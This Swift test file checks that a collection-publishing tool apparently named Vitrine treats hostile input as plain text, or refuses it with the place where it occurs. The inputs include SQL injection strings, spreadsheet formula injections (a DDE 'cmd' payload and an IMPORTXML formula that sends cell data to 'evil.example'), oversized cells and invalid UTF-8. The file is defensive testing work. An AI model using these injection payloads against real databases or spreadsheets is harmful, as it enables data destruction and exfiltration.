import Foundation
import TestSupport
import Testing

/// Texts that would like to be something else: refused with the place, or kept as the text that they are.
@Suite("Hostile texts")
struct HostileTextTests {
    private static let sql = [
        "'; DROP TABLE object; --", "\" OR 1=1 --", "x') ; DELETE FROM resource; --",
        "1; ATTACH DATABASE '/tmp/x' AS y",
        "%' UNION SELECT secret FROM token --", "?1 :name @name $name", "\\'; DROP TABLE value; --", "NULL", "x\u{60}y",
    ]
    private static let formulas = [
        "=HYPERLINK(\"http://evil.example\",\"x\")", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1,2)", "\t=1+1",
        "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
    ]

    private static func quoted(_ text: String) -> String {
        "\"" + text.replacing("\\", with: "\\\\").replacing("\"", with: "\\\"") + "\""
    }

    private static func settings(filter: String? = nil, cap: String? = nil) -> String {
        var lines = [
            "log: {level: warning}", "collection: {by_field: [{name: maker, field: Maker}]}", "publication:",
            "  fields: [{name: status}, {name: day, type: date}, {name: Maker}]", "  audiences:", "    - name: public",
        ]
        func scalar(_ text: String) -> String { "'" + text.replacing("'", with: "''") + "'" }
        if let filter { lines.append("      filter: \(scalar(filter))") }
        if let cap { lines.append("      caps: [{long_edge: 10, where: \(scalar(cap))}]") }
        return lines.joined(separator: "\n") + "\n"
    }

    private static func home(_ rows: [[String]], _ settings: String = settings()) throws -> (TestHome, CommandResult) {
        let home = try TestHome(settings: settings)
        let picture = try Pixels.quarters(width: 20, height: 16).encoded("png")
        for row in rows { try home.folder.write(picture, to: "in/\(row[0])") }
        let headers = [
            "file", "identifier", "sequence", "title", "rights", "status", "Maker", "'; DROP TABLE field; --",
        ]
        return (home, try home.bring("in", sheet: Sheet.text([headers] + rows)))
    }

    @Test("SQL and formulas in every field are texts, in documents, lists and addresses")
    func texts() throws {
        let texts = Self.sql + Self.formulas.map { $0.trimmingCharacters(in: .whitespaces) }
        let rows = texts.enumerated().map { ["\($0).png", $1, $1, $1, $1, $1, $1, $1] }
        let (home, result) = try Self.home(rows)
        #expect(result.status == 0, "\(result.errors)")
        #expect(try home.status()["public_objects"].int == rows.count)
        let server = try home.serve()
        for text in texts {
            let segment = Spelling.segment(text)
            for version in ["v2", "v3"] {
                let manifest = try server.get("/iiif/\(version)/\(segment)/manifest")
                #expect(manifest.status == 200, "\(text)")
                let found = try manifest.json.texts.filter { $0.text == text }.count
                #expect(found >= 3, "\(text): \(found)")
                // Cells of a field with several values are taken apart at bars.
                guard !text.contains("|") else { continue }
                let list = try server.get("/iiif/\(version)/collection/maker/\(segment)")
                #expect(list.status == 200 && list.text.contains("/manifest"), "\(text)")
            }
            #expect(try server.get("/object/\(segment)").status == 200)
            #expect(try server.get("/ark:/12345/\(segment)").status == 404)
            #expect(try server.get("/iiif/image/\(segment)/info.json").status == 404)
            #expect(try server.get("/iiif/v3/collection/\(segment)").status == 404)
            #expect(try server.get("/old/\(segment)?ref=\(segment)").status == 404)
            #expect(try server.get("/", ["Authorization": "Bearer vitrine_\(segment)_\(segment)"]).status == 401)
            func run(_ arguments: String...) throws -> CommandResult {
                try Vitrine.run([arguments[0]] + ["--home", home.path] + arguments.dropFirst())
            }
            let answer = try run("explain", "--rule=title = \(Self.quoted(text))", "--", text)
            #expect(answer.status == 0, "\(text): \(answer.output)\(answer.errors)")
            #expect(try run("explain", "--as=\(text)", "--", text + "?").status == 2, "\(text)")
            let command = ["token", "create", "--home", home.path]
            #expect(try Vitrine.run(command + ["--audience=\(text)"]).status != 0)
            #expect(try Vitrine.run(command + ["--audience", "public", "--note=\(text)"]).status == 0)
            #expect(try run("withdraw", "--", text + "?").status != 0)
        }
        #expect(try Vitrine.run(["token", "list", "--home", home.path]).output.contains(Self.sql[0]))
        #expect(try home.status()["public_objects"].int == rows.count)
        #expect(server.stop().errors.isEmpty)
    }

    @Test("SQL in expressions is a text, and outside of texts a fault with its column", arguments: [0, 1, 2, 3])
    func expressions(index: Int) throws {
        let text = Self.sql[index]
        let (home, result) = try Self.home(
            [["1.png", "shown", "", text, "", text, "", ""], ["2.png", "hidden", "", "", "", "other", "", ""]],
            Self.settings(filter: "status = \(Self.quoted(text))", cap: "title = \(Self.quoted(text))"))
        #expect(result.status == 0, "\(result.errors)")
        let server = try home.serve()
        let image = try server.get("/iiif/shown/manifest").json["items"][0]
        #expect(image["width"].int == 10)
        #expect(try server.get("/iiif/hidden/manifest").status == 404)
        #expect(server.stop().errors.isEmpty)
        for bare in ["status = \(text)", "status = \"a\" \(text)", "`\(text.replacing("`", with: ""))` = \"a\""] {
            try home.folder.write(Self.settings(filter: bare), to: "home/vitrine.yaml")
            let refused = try Vitrine.run(["status", "--home", home.path])
            #expect(
                refused.status != 0 && refused.errors.contains("publication.audiences[1].filter: column "), "\(bare)")
        }
    }

    @Test("What is nested, long or repeated beyond measure is refused with its column, in a setting and in a command")
    func nested() throws {
        let (home, _) = try Self.home([["1.png", "a", "", "", "", "", "", ""]])
        let many = 4000
        let sources = [
            String(repeating: "(", count: many) + "true" + String(repeating: ")", count: many),
            String(repeating: "not ", count: many / 2) + "true", String(repeating: "(", count: many),
            Array(repeating: "status = \"a\"", count: 600).joined(separator: " or "),
            "status = \"" + String(repeating: "x", count: 20_000) + "\"",
            "status in [" + Array(repeating: "\"a\"", count: 2000).joined(separator: ",") + "]",
        ]
        for source in sources {
            let command = try Vitrine.run(["explain", "a", "--home", home.path, "--rule", source])
            #expect(
                command.status == 2 && command.errors.contains("column "),
                "\(source.prefix(30)): \(command.errors.prefix(300))")
        }
        for source in sources {
            try home.folder.write(Self.settings(filter: source), to: "home/vitrine.yaml")
            let refused = try Vitrine.run(["status", "--home", home.path])
            #expect(refused.status != 0, "\(source.prefix(30))")
            #expect(
                refused.errors.contains("publication.audiences[1].filter: column "), "\(refused.errors.prefix(300))")
        }
    }

    @Test("The largest expressions that are accepted are also carried out, in a filter and in many caps")
    func largest() throws {
        func long(_ count: Int) -> String {
            (0..<count).map { $0 == count - 1 ? "status = \"a\"" : "status = \"\($0)\"" }.joined(separator: " or ")
        }
        let depth = 45
        let deep = String(repeating: "(", count: depth) + "status = \"a\"" + String(repeating: ")", count: depth)
        let list = "status in [" + (0..<999).map { "\"\($0)\"" }.joined(separator: ",") + ",\"a\"]"
        for source in [long(200), deep, list] {
            let settings = Self.settings(filter: source, cap: source)
            let (home, result) = try Self.home([["1.png", "a", "", "", "", "a", "", ""]], settings)
            #expect(result.status == 0, "\(result.errors.prefix(500))")
            #expect(try home.status()["public_objects"].int == 1, "\(source.prefix(40))")
        }
        var lines = [
            "log: {level: warning}", "publication:", "  fields: [{name: status}]", "  audiences:", "    - name: public",
            "      caps:",
        ]
        for edge in 0..<100 { lines.append("        - {long_edge: \(100 - edge), where: '\(long(60))'}") }
        let (home, result) = try Self.home(
            [["1.png", "a", "", "", "", "a", "", ""]], lines.joined(separator: "\n") + "\n")
        #expect(result.status == 0, "\(result.errors.prefix(500))")
        #expect(try home.status()["public_objects"].int == 1)
    }

    @Test("A cell of ten megabytes is refused with its row and column, and the other rows come in")
    func enormous() throws {
        let (home, result) = try Self.home([
            ["1.png", "big", "", String(repeating: "x", count: 10 << 20), "", "", "", ""],
            ["2.png", "small", "", "fine", "", "", "", ""],
        ])
        #expect(result.status == 1)
        #expect(result.errors.contains("row 1 (line 2), column “title”"), "\(result.errors.prefix(500))")
        #expect(result.errors.utf8.count < 10_000, "and nobody has to read it")
        let server = try home.serve()
        #expect(try server.get("/iiif/small/manifest").status == 200)
        #expect(server.stop().errors.isEmpty)
        let largest = String(repeating: "y", count: 1 << 20)
        #expect(try home.bring("in", sheet: Sheet.text("file", "title", rows: [["2.png", largest]])).status == 0)
        let settings = Self.settings(filter: "title = \"a\"") + "# " + String(repeating: "z", count: 10 << 20) + "\n"
        try home.folder.write(settings, to: "home/vitrine.yaml")
        let long = try Vitrine.run(["status", "--home", home.path])
        #expect(long.status == 0 || long.errors.contains("vitrine.yaml"), "\(long.errors.prefix(300))")
    }

    @Test("Bytes that are no UTF-8 are refused with their place, in a sheet, in settings and in addresses")
    func bytes() throws {
        let (home, _) = try Self.home([["1.png", "a", "", "", "", "", "", ""]])
        var sheet = Array("file,identifier,title\n1.png,a,caf\u{E9} \u{5730}\u{56F3}\n1.png,b,".utf8)
        sheet += [0xFF, 0xFE, 0x80, 0x0A]
        let path = try home.folder.write(sheet, to: "bad.csv")
        let result = try Vitrine.run(
            ["import", home.folder.file("in"), "--home", home.path, "--metadata", path])
        #expect(result.status != 0 && result.errors.contains("line 3"), "\(result.errors)")
        let server = try home.serve()
        for place in ["/iiif/", "/object/", "/ark:/12345/", "/media/", "/iiif/collection/maker/"] {
            for bytes in [[0xFF], [0xC3, 0x28], [0xED, 0xA0, 0x80]] as [[UInt8]] {
                let answer = try server.request(Array(place.utf8) + bytes)
                #expect((400..<500).contains(answer.status), "\(place)")
            }
        }
        #expect(server.stop().errors.isEmpty)
        try home.folder.write(
            Array("publication:\n  audiences:\n    - name: ".utf8) + [0xFF, 0x0A], to: "home/vitrine.yaml")
        let refused = try Vitrine.run(["status", "--home", home.path])
        #expect(refused.status != 0 && refused.errors.contains("vitrine.yaml"), "\(refused.errors)")
        #expect(!refused.errors.contains("Fatal") && !refused.errors.contains("fatal"))
    }
}
